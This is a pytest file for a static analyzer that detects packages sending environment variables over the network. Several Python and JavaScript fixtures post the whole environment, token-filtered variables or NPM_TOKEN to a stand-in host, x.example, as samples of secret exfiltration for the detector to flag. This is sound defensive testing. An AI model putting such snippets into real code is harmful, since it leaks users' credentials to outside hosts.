"""One variable of a copy of the environment is not the environment; all of them in turn are."""

import pytest
from tests.static.reading import package

PYTHON = "import os, requests\n"
POST = "requests.post('https://x.example', json={})\n"
SEND = "fetch('https://x.example', {{method: 'POST', body: {}}})\n"


def flows(source: str, path: str) -> list[str]:
    return [b.rpartition(" @ ")[0] for b in package({path: source}) if b.startswith("code.flow")]


@pytest.mark.parametrize(
    "source",
    [
        "env = dict(os.environ)\nrequests.get(env['URL'])\n",
        "env = os.environ.copy()\nrequests.get(env.get('URL', 'https://x.example'))\n",
        "env = {**os.environ, 'A': '1'}\nrequests.get(env['URL'])\n",
        "env = dict(os.environ)\nurl = env.pop('MIRROR')\nrequests.get(url)\n",
        "def f(name):\n    requests.get(os.environ[name])\n",
        "import sys\nrequests.post('https://x.example', json=[os.environ[n] for n in sys.argv])\n",
    ],
)
def test_a_setting_taken_from_a_copy_is_not_the_environment(source: str) -> None:
    assert flows(PYTHON + source, "pkg/__init__.py") == []


@pytest.mark.parametrize(
    "source",
    [
        "const env = {...process.env}; fetch(env.URL)",
        "const env = Object.assign({}, process.env); fetch(env.URL)",
        "const env = {...process.env}; fetch('https://x.example', {method: 'POST', body: env[which]})",
    ],
)
def test_neither_is_it_in_javascript(source: str) -> None:
    assert flows(source, "index.js") == []


@pytest.mark.parametrize(
    "source",
    [
        "env = {**os.environ, 'A': '1'}\n" + POST.format("env"),
        "env = os.environ.copy()\n" + POST.format("str(env)"),
        "body = ''\nfor k in os.environ:\n    body += os.environ[k]\n" + POST.format("body"),
        "env = dict(os.environ)\nbody = [env[k] for k in env if 'TOKEN' in k]\n" + POST.format("body"),
        "env = dict(os.environ)\nbody = [env.get(k) for k in sorted(env.keys())]\n" + POST.format("body"),
        "keys = [k for k in os.environ.keys()]\n" + POST.format("[os.environ[n] for n in keys]"),
        "keys = list(os.environ)\n" + POST.format("{n: os.getenv(n) for n in keys}"),
    ],
)
def test_every_variable_in_turn_is_the_environment(source: str) -> None:
    assert flows(PYTHON + source, "pkg/__init__.py") == ["code.flow env:* > network"]


@pytest.mark.parametrize(
    "source",
    [
        "const env = {...process.env}\n" + SEND.format("JSON.stringify(env)"),
        "let b = ''; const env = {...process.env}; for (const k of Object.keys(env)) b += env[k]\n"
        + SEND.format("b"),
        "let b = ''; const env = process.env; for (const k in env) b += env[k]\n" + SEND.format("b"),
    ],
)
def test_so_it_is_in_javascript(source: str) -> None:
    assert flows(source, "index.js") == ["code.flow env:* > network"]


def test_a_secret_of_a_copy_is_that_secret() -> None:
    source = PYTHON + "env = os.environ.copy()\n" + POST.format("env['NPM_TOKEN']")
    assert flows(source, "pkg/__init__.py") == ["code.flow env:NPM_TOKEN > network"]
